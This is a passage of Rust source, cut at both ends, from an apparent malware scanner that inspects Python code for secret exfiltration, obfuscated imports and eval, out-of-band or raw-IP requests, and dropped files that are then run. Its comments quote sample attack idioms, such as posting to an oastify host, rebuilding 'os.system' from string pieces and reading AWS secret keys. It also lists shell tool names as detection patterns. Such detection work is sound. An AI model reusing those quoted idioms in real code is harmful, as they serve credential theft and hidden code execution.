                    names.push(v);
                }
                Flow::Descend(())
            });
            for v in names.into_iter().take(4) {
                if self.written.len() < 64 {
                    self.written.push(v);
                }
            }
        }
    }

    /// Whether a network call's arguments carry a wallet secret (by name: a variable, keyword
    /// or dictionary key) or the whole environment.
    fn sends_secret(&self, args: Node) -> bool {
        if is_env_dump(self.text(args)) || self.subtree_has(args, Cap::Secret) {
            return true;
        }
        self.flat.walk(args, |n| {
            let hit = match n.kind_str() {
                "identifier" => is_secret_name(self.text(n)),
                "string" => string_value(self.text(n)).is_some_and(|v| is_secret_name(&v)),
                // What a call makes of a secret (a signature, an address) is not the secret,
                // unless the call only serialises it.
                "call" => {
                    let f = n.field("function").and_then(|f| self.dotted(f)).unwrap_or_default();
                    if !matches!(f.as_str(), "json.dumps" | "dict" | "str" | "repr" | "urllib.parse.urlencode" | "urlencode")
                        && !f.ends_with(".format")
                    {
                        return Flow::Skip;
                    }
                    false
                }
                _ => false,
            };
            if hit { Flow::Stop } else { Flow::Descend(()) }
        })
    }

    /// Whether an expression puts a secret-named value into a container or a string as is (not
    /// through a call: deriving an address from a key is what wallets do).
    /// Where a network request goes, when that alone is telling: any request to an out-of-band
    /// interaction service or a tunnel, or data sent (a POST, PUT or PATCH, an upload, or
    /// `data=`, `files=`, `json=`) to a hard-coded public IP address. The request is a call with
    /// network use (directly or through one of the file's functions) or a method of a client
    /// object (`s = requests.Session()`, `with httpx.Client() as c`); the URL is its first
    /// positional argument or `url=`, read through constants.
    fn exfil_target(&self, name: &str, func: Node, caps: &[Cap], args: Node) -> Option<Exfil> {
        if self.raw_ip_send.is_some() && self.oob_request.is_some() {
            return None;
        }
        let method = name.rsplit('.').next().unwrap_or(name).to_ascii_lowercase();
        let client_call = self.is_client_call(func);
        if !caps.contains(&Cap::Network) && !client_call {
            return None;
        }
        let mut cursor = args.walk();
        let children: Vec<Node> = args.named_children(&mut cursor).filter(|a| a.kind_str() != "comment").collect();
        let positional: Vec<Node> = children.iter().copied().filter(|a| a.kind_str() != "keyword_argument").collect();
        let keyword = |names: &[&str]| {
            children
                .iter()
                .copied()
                .find(|a| a.kind_str() == "keyword_argument" && a.field("name").is_some_and(|n| names.contains(&self.text(n))))
        };
        // `requests.request("POST", url)`: the method comes first.
        let verb = (method == "request").then(|| positional.first().and_then(|m| string_value(self.text(*m)))).flatten();
        let target = self.request_target(name, args)?;
        let url = self.resolve_text(target);
        // A request's address without a scheme (`requests.post("x.oastify.com")`) still names
        // the host it was meant for.
        let bare = (!url.contains("://") && !url.is_empty()).then(|| format!("http://{url}"));
        if out_of_band_url(&url) || bare.as_deref().is_some_and(out_of_band_url) {
            return Some(Exfil::OutOfBand);
        }
        let sends = method.split('_').any(|w| matches!(w, "post" | "put" | "patch" | "send" | "upload" | "submit"))
            || verb.is_some_and(|v| matches!(v.to_ascii_lowercase().as_str(), "post" | "put" | "patch"))
            || keyword(&["data", "files", "json", "content"]).is_some();
        (sends && public_ip_url(&url)).then_some(Exfil::RawIp)
    }

    /// The text an expression builds from literals and constants, in order: the contents of
    /// string literals (f-strings' literal parts too) and the values of names assigned a string
    /// literal, so that `"http://" + HOST + "/x"` reads `http://5.6.7.8/x`. Bounded.
    fn resolve_text(&self, expr: Node) -> String {
        let mut out = String::new();
        self.flat.walk(expr, |n| {
            if out.len() > 4096 {
                return Flow::Stop;
            }
            match n.kind_str() {
                "string_content" => out.push_str(self.text(n)),
                "identifier" => {
                    if let Some(v) = self.consts.get(self.text(n)).and_then(|v| string_value(v)) {
                        out.push_str(&v);
                    }
                }
                "keyword_argument" => return Flow::Skip,
                _ => {}
            }
            Flow::Descend(())
        });
        out
    }

    fn packs_secret(&self, expr: Node) -> bool {
        if !matches!(expr.kind_str(), "list" | "dictionary" | "set" | "tuple" | "string" | "binary_operator" | "concatenated_string") {
            return false;
        }
        self.flat.walk(expr, |n| match n.kind_str() {
            "identifier" if is_secret_name(self.text(n)) => Flow::Stop,
            "call" | "lambda" => Flow::Skip,
            _ => Flow::Descend(()),
        })
    }

    /// Whether an expression hands on a secret held by a variable as is, or only serialised,
    /// encoded or wrapped into a request: `json.dumps(env)`, `base64.b64encode(env.encode())`,
    /// `f"...{secret}"`, `Request(url, data=body)`. What other calls derive from a secret (an
    /// address, a signature) is not the secret.
    fn carries_secret(&self, expr: Node) -> bool {
        if !self.tainted.values().any(|t| t.contains(&Cap::Secret)) {
            return false;
        }
        self.flat.walk(expr, |n| match n.kind_str() {
            "identifier" | "attribute" if self.tainted.get(self.text(n)).is_some_and(|t| t.contains(&Cap::Secret)) => Flow::Stop,
            "call" => {
                let f = n.field("function").and_then(|f| self.dotted(f)).unwrap_or_default();
                let last = f.rsplit('.').next().unwrap_or(&f);
                let transparent = matches!(
                    f.as_str(),
                    "json.dumps"
                        | "dict"
                        | "str"
                        | "repr"
                        | "bytes"
                        | "list"
                        | "tuple"
                        | "urllib.parse.urlencode"
                        | "urlencode"
                        | "binascii.hexlify"
                ) || f.starts_with("base64.")
                    || matches!(
                        last,
                        "encode" | "decode" | "format" | "join" | "dumps" | "hexlify" | "items" | "copy" | "strip" | "replace"
                    )
                    || classify(&f).contains(&Cap::Network);
                if transparent { Flow::Descend(()) } else { Flow::Skip }
            }
            "lambda" => Flow::Skip,
            _ => Flow::Descend(()),
        })
    }

    /// The address a request goes to: its first positional argument (the second after a method
    /// name, `requests.request("POST", url)`), or `url=`, `uri=`, `endpoint=`.
    fn request_target(&self, name: &str, args: Node<'t>) -> Option<Node<'t>> {
        let method = name.rsplit('.').next().unwrap_or(name).to_ascii_lowercase();
        let mut cursor = args.walk();
        let children: Vec<Node> = args.named_children(&mut cursor).filter(|a| a.kind_str() != "comment").collect();
        let mut positional = children.iter().copied().filter(|a| a.kind_str() != "keyword_argument");
        let first = positional.next();
        let verb = (method == "request").then(|| first.and_then(|m| string_value(self.text(m)))).flatten();
        let target = if verb.is_some() { positional.next() } else { first };
        target.or_else(|| {
            children
                .iter()
                .copied()
                .find(|a| {
                    a.kind_str() == "keyword_argument"
                        && a.field("name").is_some_and(|n| matches!(self.text(n), "url" | "uri" | "endpoint"))
                })
                .and_then(|k| k.field("value"))
        })
    }

    /// A request made through a network client object: `s = requests.Session()` then `s.post`,
    /// `with httpx.Client() as c` then `c.get`.
    fn is_client_call(&self, func: Node) -> bool {
        func.kind_str() == "attribute"
            && func.field("attribute").is_some_and(|a| {
                matches!(self.text(a).to_ascii_lowercase().as_str(), "get" | "post" | "put" | "patch" | "request" | "send" | "head")
            })
            && func.field("object").is_some_and(|o| {
                o.kind_str() == "identifier"
                    && (self.net_clients.contains(self.text(o))
                        || self.tainted.get(self.text(o)).is_some_and(|t| t.contains(&Cap::Network)))
            })
    }

    /// `"".join(table[c] for c in "RNKLIG...")`: text rebuilt character by character through a
    /// substitution, which is how a cipher that names no decoder reads.
    fn rebuilds_text(&self, expr: Node) -> bool {
        self.flat.walk(expr, |n| {
            if n.kind_str() == "call"
                && let Some(f) = n.field("function")
                && f.kind_str() == "attribute"
                && f.field("attribute").is_some_and(|a| self.text(a) == "join")
                && let Some(a) = n.field("arguments")
                && a.named_child(0).is_some_and(|c| {
                    matches!(c.kind_str(), "generator_expression" | "list_comprehension")
                        && c.field("body").is_some_and(|b| {
                            let t = self.text(b);
                            b.kind_str() != "identifier" && (t.contains('[') || t.contains("chr("))
                        })
                })
            {
                return Flow::Stop;
            }
            Flow::Descend(())
        })
    }

    /// The text of `sep.join(list)` over string literals (the list written out or kept in a
    /// variable), or of a `+` chain of literals and constants. Bounded to 16 KiB.
    fn joined_literals(&self, expr: Node, depth: u8) -> Option<String> {
        if depth > 32 {
            return None;
        }
        match expr.kind_str() {
            "call" => {
                let f = expr.field("function")?;
                if f.kind_str() != "attribute" || f.field("attribute").map(|a| self.text(a)) != Some("join") {
                    return None;
                }
                let sep = string_value(self.text(f.field("object")?))?;
                let arg = expr.field("arguments")?.named_child(0)?;
                let parts: Vec<String> = match arg.kind_str() {
                    "identifier" => self.literal_lists.get(self.text(arg))?.clone(),
                    "list" | "tuple" => {
                        let mut cursor = arg.walk();
                        let parts: Option<Vec<String>> = arg
                            .named_children(&mut cursor)
                            .map(|c| (c.kind_str() == "string").then(|| string_value(self.text(c))).flatten())
                            .collect();
                        parts?
                    }
                    _ => return None,
                };
                let out = parts.join(&sep);
                (out.len() <= 16 << 10).then_some(out)
            }
            "binary_operator" => {
                if expr.field("operator").map(|o| self.text(o)) != Some("+") {
                    return None;
                }
                let side = |n: Node| -> Option<String> {
                    match n.kind_str() {
                        "string" => string_value(self.text(n)),
                        "identifier" => self.consts.get(self.text(n)).and_then(|v| string_value(v)),
                        _ => self.joined_literals(n, depth + 1),
                    }
                };
                let out = side(expr.field("left")?)? + &side(expr.field("right")?)?;
                (out.len() <= 16 << 10).then_some(out)
            }
            _ => None,
        }
    }

    /// `eval("o" + "s.sy" + "stem")`, `eval(("metsys.so")[::-1])`: text assembled from literal
    /// pieces by operators, which only serves to keep a name or code out of sight (a plain
    /// literal is not this).
    fn built_from_literals(&self, args: Node) -> bool {
        let Some(arg) = args.named_child(0) else { return false };
        if !matches!(arg.kind_str(), "binary_operator" | "subscript" | "parenthesized_expression") {
            return false;
        }
        let mut literal = false;
        let mut other = false;
        self.flat.walk(arg, |n| match n.kind_str() {
            "string" => {
                literal = true;
                Flow::Skip
            }
            "binary_operator" | "parenthesized_expression" | "subscript" | "slice" | "integer" | "unary_operator" => Flow::Descend(()),
            _ if !n.is_named() => Flow::Descend(()),
            _ => {
                other = true;
                Flow::Stop
            }
        });
        literal && !other
    }

    /// The host a request's `headers={"Host": "..."}` literal names, lowercased.
    fn host_header(&self, args: Node) -> Option<String> {
        let mut cursor = args.walk();
        let headers = args
            .named_children(&mut cursor)
            .find(|a| a.kind_str() == "keyword_argument" && a.field("name").is_some_and(|n| self.text(n) == "headers"))?;
        let dict = headers.field("value").filter(|v| v.kind_str() == "dictionary")?;
        let mut cursor = dict.walk();
        let found = dict.named_children(&mut cursor).find_map(|pair| {
            let key = string_value(self.text(pair.field("key")?))?;
            if !key.eq_ignore_ascii_case("host") {
                return None;
            }
            string_value(self.text(pair.field("value")?))
        });
        found.map(|h| h.split(':').next().unwrap_or("").trim_end_matches('.').to_ascii_lowercase())
    }

    /// Whether an expression names a constant holding a base64-encoded web address.
    fn names_encoded_url(&self, expr: Node) -> bool {
        !self.consts.is_empty()
            && self.flat.walk(expr, |n| {
                if n.kind_str() == "identifier" && self.consts.get(self.text(n)).is_some_and(|v| has_encoded_url(v)) {
                    Flow::Stop
                } else {
                    Flow::Descend(())
                }
            })
    }

    /// Whether a request's address is, or is built around, a variable holding decoded data
    /// (`url = decode(blob)` then `requests.get(url)`, `requests.get(url + key)`). What calls make
    /// of decoded data (`json.loads(body)["next"]`) is not looked into: services hand out links.
    fn address_is_decoded(&self, target: Node) -> bool {
        !self.tainted.is_empty()
            && self.flat.walk(target, |n| match n.kind_str() {
                "call" => Flow::Skip,
                "identifier" if self.tainted.get(self.text(n)).is_some_and(|t| t.contains(&Cap::Decode)) => Flow::Stop,
                _ => Flow::Descend(()),
            })
    }

    /// Whether an expression uses a variable that holds text only decoding reveals.
    fn names_hidden_value(&self, expr: Node) -> bool {
        !self.hidden_values.is_empty()
            && self.flat.walk(expr, |n| {
                if n.kind_str() == "identifier" && self.hidden_values.contains(self.text(n)) { Flow::Stop } else { Flow::Descend(()) }
            })
    }

    /// A file that was written is then run (`open(p, "wb")` ... `subprocess.Popen([p])`).
    fn written_then_run(&self) -> Option<u32> {
        // A variable whose value names a program (`path = f"{home}\\t.pyw"`) is run by whatever
        // it is handed to, the launcher possibly found at run time (`shutil.which("pythonw")`).
        let programs: Vec<&str> = self
            .written
            .iter()
            .filter(|w| {
                w.chars().all(|c| c.is_alphanumeric() || c == '_')
                    && self.consts.get(w.as_str()).is_some_and(|v| {
                        // f-strings too: the placeholders are folders, the end is the name.
                        let v = v.trim().trim_start_matches(['b', 'r', 'u', 'f', 'B', 'R', 'U', 'F']);
                        is_file_name(v.trim_matches(['"', '\'']))
                    })
            })
            .map(String::as_str)
            .collect();
        for (args, line) in &self.run_args {
            if self.written.iter().any(|w| runs_file(args, w)) || programs.iter().any(|w| names_word(args, w)) {
                return Some(*line);
            }
            // A written script named in a command line that also names an interpreter, however
            // the line is put together (`'"' + sys.executable[:-4] + 'w.exe" "' + tmp + r'\s.py"'`).
            let lower = args.to_ascii_lowercase();
            let interpreter =
                ["sys.executable", "python", "powershell", "wscript", "cscript", "cmd", "bash"].iter().any(|k| lower.contains(k));
            if interpreter
                && self.written.iter().any(|w| {
                    let name = w.rsplit(['/', '\\']).next().unwrap_or(w);
                    is_file_name(name) && name.contains('.') && args.contains(name)
                })
            {
                return Some(*line);
            }
        }
        None
    }

    /// A chat-bot or socket event handler receives what a remote party sent: its first parameter
    /// (`message`, `event`, `ctx`) is network data.
    fn handler_params(&mut self, node: Node) {
        let mut cursor = node.walk();
        let handler = node.named_children(&mut cursor).filter(|c| c.kind_str() == "decorator").any(|d| {
            let t = self.text(d);
            ["message_handler", "on_message", "channel_post_handler", ".on(", "callback_query_handler", "bot.command", ".event"]
                .iter()
                .any(|k| t.contains(k))
        });
        if !handler {
            return;
        }
        let Some(def) = node.field("definition") else { return };
        let Some(params) = def.field("parameters") else { return };
        let mut pc = params.walk();
        if let Some(p) = params.named_children(&mut pc).map(|p| self.text(p)).find(|p| *p != "self" && *p != "cls") {
            let name = p.split([':', '=']).next().unwrap_or(p).trim().to_string();
            self.taint(name, Cap::Network);
        }
    }

    fn record_import(&mut self, node: Node, top: bool) {
        if self.imports.len() >= 256 {
            return;
        }
        let mut names = Vec::new();
        let module;
        if node.kind_str() == "import_from_statement" {
            let Some(m) = node.field("module_name") else { return };
            module = self.text(m).to_string();
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                match child.kind_str() {
                    "wildcard_import" => names.push("*".to_string()),
                    "dotted_name" if child != m => names.push(self.text(child).to_string()),
                    "aliased_import" => {
                        if let Some(n) = child.field("name") {
                            names.push(self.text(n).to_string());
                        }
                    }
                    _ => {}
                }
            }
            self.imports.push(Import { module, names, top });
        } else {
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                let m = match child.kind_str() {
                    "dotted_name" => self.text(child),
                    "aliased_import" => child.field("name").map(|n| self.text(n)).unwrap_or(""),
                    _ => continue,
                };
                self.imports.push(Import { module: m.to_string(), names: Vec::new(), top });
            }
        }
    }

    fn import(&mut self, node: Node) {
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            match child.kind_str() {
                "dotted_name" => {
                    let full = self.text(child).to_string();
                    let first = full.split('.').next().unwrap_or("").to_string();
                    self.aliases.insert(first.clone(), first);
                }
                "aliased_import" => {
                    if let (Some(n), Some(a)) = (child.field("name"), child.field("alias")) {
                        self.aliases.insert(self.text(a).to_string(), self.text(n).to_string());
                    }
                }
                _ => {}
            }
        }
    }

    fn import_from(&mut self, node: Node) {
        let Some(module) = node.field("module_name") else { return };
        let module = self.text(module).trim_start_matches('.').to_string();
        let mut cursor = node.walk();
        for child in node.children_by_field_name("name", &mut cursor) {
            match child.kind_str() {
                "dotted_name" => {
                    let n = self.text(child).to_string();
                    self.aliases.insert(n.clone(), format!("{module}.{n}"));
                }
                "aliased_import" => {
                    if let (Some(n), Some(a)) = (child.field("name"), child.field("alias")) {
                        self.aliases.insert(self.text(a).to_string(), format!("{module}.{}", self.text(n)));
                    }
                }
                _ => {}
            }
        }
    }

    fn assignment(&mut self, node: Node) {
        let (Some(left), Some(right)) = (node.field("left"), node.field("right")) else { return };
        // `A, B = exec, compile`: aliases pairwise.
        if matches!(left.kind_str(), "pattern_list" | "tuple_pattern") && matches!(right.kind_str(), "expression_list" | "tuple") {
            let mut lc = left.walk();
            let mut rc = right.walk();
            for (l, r) in left.named_children(&mut lc).zip(right.named_children(&mut rc)) {
                if l.kind_str() == "identifier"
                    && let Some(d) = self.dotted(r)
                {
                    if matches!(d.as_str(), "exec" | "eval" | "compile" | "__import__" | "getattr") {
                        self.aliases.insert(self.text(l).to_string(), d.clone());
                    }
                    if classify(&d).contains(&Cap::Decode) {
                        self.decoder_fns.insert(self.text(l).to_string());
                    }
                }
            }
            return;
        }
        // `self.secret = os.environ["AWS_SECRET_ACCESS_KEY"]`: the attribute holds the secret
        // for the object's other methods.
        if left.kind_str() == "attribute" && left.field("object").is_some_and(|o| self.text(o) == "self") {
            if is_env_dump(self.text(right)) || self.packs_secret(right) || is_env_secret(self.text(right)) || self.carries_secret(right) {
                self.taint(self.text(left).to_string(), Cap::Secret);
            }
            return;
        }
        if left.kind_str() != "identifier" {
            return;
        }
        // Character arithmetic builds text out of numbers: `out += chr(ord(c) ^ key)`.
        if is_char_decoding(self.text(right)) {
            self.taint(self.text(left).to_string(), Cap::Decode);
            if self.hidden_values.len() < 256 {
                self.hidden_values.insert(self.text(left).to_string());
            }
        }
        // `u = base64.b64decode("aHR0cHM6Ly9...").decode()`: a URL kept out of sight, also
        // when the encoded literal sits in a constant of its own.
        if self.hidden_values.len() < 256
            && (has_encoded_url(self.text(right)) || self.names_encoded_url(right))
            && self.subtree_has(right, Cap::Decode)
        {
            self.hidden_values.insert(self.text(left).to_string());
        }
        if node.kind_str() == "augmented_assignment" {
            return;
        }
        let name = self.text(left).to_string();
        // `cmd = ("certutil ... " "http://...")`: the parentheses only hold a long literal.
        let literal = if right.kind_str() == "parenthesized_expression" { right.named_child(0).unwrap_or(right) } else { right };
        if matches!(literal.kind_str(), "string" | "concatenated_string") && self.consts.len() < 1024 {
            let value = self.text(literal);
            if value.len() <= 16 << 10 {
                let value = if literal.kind_str() == "concatenated_string" {
                    // `'a ' 'b'` is the one string `a b`.
                    let mut cursor = literal.walk();
                    let parts: String = literal.named_children(&mut cursor).map(|c| unescape(self.text(c))).collect();
                    format!("\"{parts}\"")
                } else {
                    value.to_string()
                };
                self.consts.insert(name.clone(), value);
            }
        } else if self.consts.len() < 1024
            && right.kind_str() == "call"
            && right.field("function").and_then(|f| self.dotted(f)).is_some_and(|f| matches!(f.as_str(), "os.getenv" | "os.environ.get"))
            && let Some(default) = right.field("arguments").and_then(|a| a.named_child(1)).filter(|d| d.kind_str() == "string")
        {
            // `HOST = os.getenv("HOST", "203.0.113.5")`: the default is what runs.
            self.consts.insert(name.clone(), self.text(default).to_string());
        } else if self.consts.len() < 1024
            && let Some(value) = self.joined_literals(right, 0)
        {
            // `cmd = "".join(parts)`, `url = "http://" + "host"`: a command line cut into pieces
            // reads as the whole.
            self.consts.insert(name.clone(), format!("\"{value}\""));
        }
        if right.kind_str() == "list" && self.literal_lists.len() < 256 {
            let mut parts = Vec::new();
            let mut cursor = right.walk();
            let all = right.named_children(&mut cursor).all(|c| {
                let v = (c.kind_str() == "string").then(|| string_value(self.text(c))).flatten();
                v.map(|v| parts.push(v)).is_some()
            });
            if all && !parts.is_empty() && parts.iter().map(String::len).sum::<usize>() <= 16 << 10 {
                self.literal_lists.insert(name.clone(), parts);
            }
        }
        if right.kind_str() == "lambda" {
            if let Some(body) = right.field("body")
                && self.subtree_has(body, Cap::Decode)
            {
                self.decoder_fns.insert(name);
            }
            return;
        }
        // `b = base64.b64decode` or `x = __import__("zlib").decompress`: a decoder under a new name.
        if let Some(d) = self.dotted(right) {
            if classify(&d).contains(&Cap::Decode) {
                self.decoder_fns.insert(name.clone());
            }
            if matches!(d.as_str(), "exec" | "eval" | "compile") {
                self.aliases.insert(name.clone(), d.clone());
            }
        }
        if is_env_dump(self.text(right)) || self.packs_secret(right) || is_env_secret(self.text(right)) || self.carries_secret(right) {
            self.taint(name, Cap::Secret);
        } else if self.subtree_has(right, Cap::Network) {
            self.taint(name, Cap::Network);
        } else if self.subtree_has(right, Cap::HostInfo) {
            // Host details stay host details once encoded (`b64encode(hostname.encode())`).
            self.taint(name, Cap::HostInfo);
        } else if self.subtree_has(right, Cap::Decode) {
            self.taint(name, Cap::Decode);
        }
    }

    /// The text of an argument list with the string values of the variables it names appended:
    /// `subprocess.run(cmd, shell=True)` reads as the command `cmd` holds.
    fn expanded(&self, args: Node) -> String {
        let mut out = self.text(args).to_string();
        if self.consts.is_empty() {
            return out;
        }
        // Each name once, and at most 64 KiB added, whatever the expression repeats.
        let mut seen: HashSet<&str> = HashSet::new();
        let limit = out.len() + (64 << 10);
        self.flat.walk(args, |n| {
            if n.kind_str() == "identifier"
                && seen.insert(self.text(n))
                && let Some(v) = self.consts.get(self.text(n))
            {
                if out.len() + v.len() > limit {
                    return Flow::Stop;
                }
                out.push(' ');
                out.push_str(v);
            }
            Flow::Descend(())
        });
        out
    }

    /// Marks a variable as holding data of this kind (a name may hold several over a file).
    fn taint(&mut self, name: impl Into<String>, cap: Cap) {
        // A name keeps its latest kind of data, except that once it held a secret it stays
        // suspect: secrets are rare and sending one is what matters.
        let t = self.tainted.entry(name.into()).or_default();
        if cap != Cap::Secret {
            t.retain(|c| *c == Cap::Secret);
        }
        if !t.contains(&cap) {
            t.push(cap);
        }
    }

    /// Whether a call of this capability occurs in the subtree, or a tainted variable flows in.
    fn subtree_has(&self, node: Node, cap: Cap) -> bool {
        self.flat.walk(node, |n| {
            match n.kind_str() {
                "call" => {
                    if let Some(f) = n.field("function") {
                        if let Some(name) = self.dotted(f)
                            && (classify(&name).contains(&cap) || (cap == Cap::Decode && self.decoder_fns.contains(&name)))
                        {
                            return Flow::Stop;
                        }
                        // `"".join(map(chr, [...]))`, `"".join(chr(c ^ k) for c in data)`.
                        if cap == Cap::Decode
                            && f.kind_str() == "attribute"
                            && f.field("attribute").is_some_and(|a| self.text(a) == "join")
                            && n.field("arguments").is_some_and(|a| is_char_decoding(self.text(a)))
                        {
                            return Flow::Stop;
                        }
                        // `x.decode("base64")`, `codecs.decode(x, "rot13")`, `"...".decode("hex")`.
                        if cap == Cap::Decode && f.kind_str() == "attribute" {
                            let attr = f.field("attribute").map(|a| self.text(a)).unwrap_or("");
                            let args = n.field("arguments").map(|a| self.text(a)).unwrap_or("");
                            if attr == "decode" && ["base64", "hex", "rot13", "rot_13", "zlib", "bz2"].iter().any(|c| args.contains(c)) {
                                return Flow::Stop;
                            }
                        }
                    }
                }
                "identifier" if !self.tainted.is_empty() && self.tainted.get(self.text(n)).is_some_and(|t| t.contains(&cap)) => {
                    return Flow::Stop;
                }
                "attribute"
                    if cap == Cap::Secret
                        && !self.tainted.is_empty()
                        && self.tainted.get(self.text(n)).is_some_and(|t| t.contains(&cap)) =>
                {
                    return Flow::Stop;
                }
                _ => {}
            }
            Flow::Descend(())
        })
    }

    /// The dotted name an expression refers to, with imports and aliases resolved.
    fn dotted(&self, node: Node) -> Option<String> {
        // Names are short; a long expression is no name (and deep nesting would recurse deeply).
        if node.byte_range().len() > 512 {
            return None;
        }
        match node.kind_str() {
            "identifier" => {
                let t = self.text(node);
                Some(self.aliases.get(t).cloned().unwrap_or_else(|| t.to_string()))
            }
            "attribute" => {
                let object = node.field("object")?;
                let obj = match self.dotted(object) {
                    Some(o) => o,
                    // `Fernet(key).decrypt`, `AES.new(k).decrypt`: a method of a call's result.
                    None if object.kind_str() == "call" => format!("{}()", self.dotted(object.field("function")?)?),
                    None => return None,
                };
                let attr = self.text(node.field("attribute")?);
                let full = format!("{obj}.{attr}");
                Some(
                    full.strip_prefix("builtins.")
                        .or_else(|| full.strip_prefix("__builtins__."))
                        .or_else(|| full.strip_prefix("__builtin__."))
                        .map(str::to_string)
                        .unwrap_or(full),
                )
            }
            "call" => {
                // __import__('x') and importlib.import_module('x') stand for module x.
                let f = self.dotted(node.field("function")?)?;
                if f == "__import__" || f == "importlib.import_module" {
                    let args = node.field("arguments")?;
                    let first = args.named_child(0)?;
                    return string_value(self.text(first));
                }
                // `getattr(__import__("base64"), "b64decode")` is base64.b64decode.
                if f == "getattr" {
                    let args = node.field("arguments")?;
                    let (object, attr) = (args.named_child(0)?, args.named_child(1)?);
                    if attr.kind_str() == "string" {
                        return Some(format!("{}.{}", self.dotted(object)?, string_value(self.text(attr))?));
                    }
                }
                None
            }
            "parenthesized_expression" => self.dotted(node.named_child(0)?),
            _ => None,
        }
    }

    fn call(&mut self, node: Node, top: bool) {
        let Some(func) = node.field("function") else { return };
        let Some(name) = self.dotted(func) else { return };
        let line = node.start_position().row as u32 + 1;
        let mut caps = classify(&name);
        if self.decoder_fns.contains(&name) {
            caps.push(Cap::Decode);
        }
        // A call to one of the file's own functions does what that function does; such
        // reachable-but-indirect evidence is marked so that it can weigh less. A thread, timer,
        // process or exit hook started with one of them runs it too.
        let target = self.callback_target(&name, node);
        let callee = target.clone().unwrap_or_else(|| name.clone());
        let local = self.local_fn(&callee).cloned().unwrap_or_default();
        if self.depth == 0 && self.local_fn(&callee).is_none() && self.called.len() < 512 {
            self.called.push((callee.clone(), line, top));
        }
        let mut direct = caps.clone();
        let exec_wrapper = local.contains(&Cap::DynamicExec) && node.field("arguments").is_some_and(|a| a.named_child_count() > 0);
        for c in local {
            if !caps.contains(&c) {
                caps.push(c);
            }
        }
        let args = node.field("arguments");
        if name == "open" && is_write_open(self.text(node)) {
            caps.push(Cap::FileWrite);
            direct.push(Cap::FileWrite);
            if let Some(p) = args.and_then(|a| a.named_child(0)) {
                self.remember_written(p);
            }
        }
        // Downloads straight to a file.
        if name.ends_with("urlretrieve") || name == "wget.download" {
            caps.push(Cap::FileWrite);
            direct.push(Cap::FileWrite);
            if let Some(p) = args.and_then(|a| a.named_child(1)) {
                self.remember_written(p);
            }
        }
        if func.kind_str() == "attribute"
            && func.field("attribute").is_some_and(|a| matches!(self.text(a), "write" | "write_bytes" | "writelines"))
            && let Some(a) = args
            && self.subtree_has(a, Cap::Decode)
        {
            self.decoded_write.get_or_insert(line);
        }
        if self.network_write.is_none()
            && func.kind_str() == "attribute"
            && func.field("attribute").is_some_and(|a| matches!(self.text(a), "write" | "write_bytes" | "write_text"))
            && let Some(a) = args
            && self.subtree_has(a, Cap::Network)
        {
            self.network_write = Some(line);
        }
        if self.hidden_import.is_none()
            && matches!(name.as_str(), "__import__" | "importlib.import_module")
            && let Some(a) = args
            && let Some(first) = a.named_child(0)
            && first.kind_str() != "string"
            && (self.subtree_has(first, Cap::Decode) || is_char_decoding(self.text(first)) || self.rebuilds_text(first))
        {
            self.hidden_import = Some(line);
        }
        // `pickle.loads(zlib.decompress(b"x\xda..."))`: unpickling runs code, and a pickle
        // kept as an encoded literal in the source is a payload.
        if matches!(name.as_str(), "pickle.loads" | "cPickle.loads" | "_pickle.loads" | "dill.loads" | "cloudpickle.loads")
            && let Some(a) = args
            && self.subtree_has(a, Cap::Decode)
            && !self.text(a).contains("open(")
            && !self.text(a).contains(".read(")
            && self.flat.walk(a, |n| if n.kind_str() == "string" && n.byte_range().len() >= 16 { Flow::Stop } else { Flow::Descend(()) })
        {
            self.chains.push((Cap::Decode, line, self.line_text(line), top));
        }
        if self.socket_to_const.is_none()
            && (name.ends_with("create_connection") || name.ends_with(".connect") || name.ends_with(".connect_ex"))
            && let Some(address) = args.and_then(|a| a.named_child(0)).filter(|t| t.kind_str() == "tuple")
            && let Some(host) = address.named_child(0)
            && matches!(host.kind_str(), "string" | "identifier")
        {
            let h = self.resolve_text(host);
            if h.contains('.') && h.parse::<std::net::IpAddr>().map_or(true, |ip| !ip.is_loopback()) && h != "localhost" {
                self.socket_to_const = Some(line);
            }
        }
        if caps.contains(&Cap::Process)
            && let Some(args) = args
        {
            let lower = self.expanded(args).to_ascii_lowercase();
            if self.hidden_launches.len() < 64 && HIDDEN_LAUNCH.iter().any(|k| lower.contains(k)) {
                self.hidden_launches.insert(line);
            }
            if self.piped_shell.is_none() && lower.contains("stdin=") {
                let mut cursor = args.walk();
                let first = args.named_children(&mut cursor).find(|a| a.kind_str() != "keyword_argument");
                let program = first.map(|c| self.resolve_text(c).to_ascii_lowercase()).unwrap_or_default();
                let program = program.split_whitespace().next().unwrap_or("");
                let program = program.rsplit(['/', '\\']).next().unwrap_or(program).trim_end_matches(".exe");
                if matches!(program, "cmd" | "powershell" | "pwsh" | "sh" | "bash" | "zsh" | "dash") {
                    self.piped_shell = Some(line);
                }
            }
            // A shell command that fetches something is network use, whatever runs it.
            let shell = shell_caps(&lower);
            if shell.contains(&Cap::Network) && shell.contains(&Cap::HostInfo) {
                self.shell_exfil.get_or_insert(line);
            }
            if shell.contains(&Cap::Network) && runs_what_it_fetched(&lower) {
                self.shell_drop_run.get_or_insert(line);
            }
            for c in shell {
                if !caps.contains(&c) {
                    caps.push(c);
                }
                if !direct.contains(&c) {
                    direct.push(c);
                }
            }
            let pip_list =
                lower.contains("\"pip\"") && lower.contains("\"install\"") || lower.contains("'pip'") && lower.contains("'install'");
            if lower.contains("pip install") || lower.contains("-m pip") || pip_list {
                self.pip_install.get_or_insert(line);
            }
            // Through a wrapper the decoded argument may be data rather than the command.
            if direct.contains(&Cap::Process) && self.subtree_has(args, Cap::Decode) {
                self.hidden_command.get_or_insert(line);
            }
            // `run("stage2.py")` where the file's own `run` starts a program with its argument:
            // the literal is what gets run.
            if !direct.contains(&Cap::Process)
                && let Some(first) = args.named_child(0)
                && first.kind_str() == "string"
                && first.byte_range().len() <= 4096
                && self.run_args.len() < 256
            {
                self.run_args.push((self.text(first).to_string(), line));
            }
            if direct.contains(&Cap::Process) {
                // The command is the first positional argument (or `args=`); the rest are
                // options such as `stderr=open("build.log", "w")`.
                let mut cursor = args.walk();
                let command = args
                    .named_children(&mut cursor)
                    .find(|a| a.kind_str() != "keyword_argument" || a.field("name").is_some_and(|n| self.text(n) == "args"));
                if let Some(c) = command
                    && self.run_args.len() < 256
                {
                    let t = self.text(c);
